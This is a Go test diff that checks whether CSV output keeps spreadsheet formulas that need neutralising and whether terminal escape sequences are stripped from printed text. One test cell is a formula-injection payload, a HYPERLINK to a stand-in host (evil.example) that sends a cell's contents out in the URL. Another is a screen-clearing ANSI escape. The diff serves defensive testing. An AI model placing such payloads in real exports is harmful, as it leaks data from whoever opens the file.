@@ -145,3 +145,23 @@ func TestKinds(t *testing.T) {
 		t.Errorf("there are %d constants, and %d kinds", found, len(Kinds))
 	}
 }
+
+// TestCSVIsNeeded: the standard writer keeps a formula as it is, and so does a cell that
+// is printed as text.
+func TestCSVIsNeeded(t *testing.T) {
+	for _, cell := range []string{"=1+1", `=HYPERLINK("http://evil.example?"&A1,"x")`, "@SUM(A1)"} {
+		var b bytes.Buffer
+		w := csv.NewWriter(&b)
+		if err := w.Write([]string{cell}); err != nil {
+			t.Fatal(err)
+		}
+		if w.Flush(); risky(b.String()) == "" {
+			t.Errorf("%q is not a formula in %q", cell, b.String())
+		}
+		holdsCSV(t, cell)
+	}
+	const hidden = "\x1b[2Jgone"
+	if isPlain(hidden) || !isPlain(Text(hidden, 100)) {
+		t.Errorf("%q is printed as %q", hidden, Text(hidden, 100))
+	}
+}
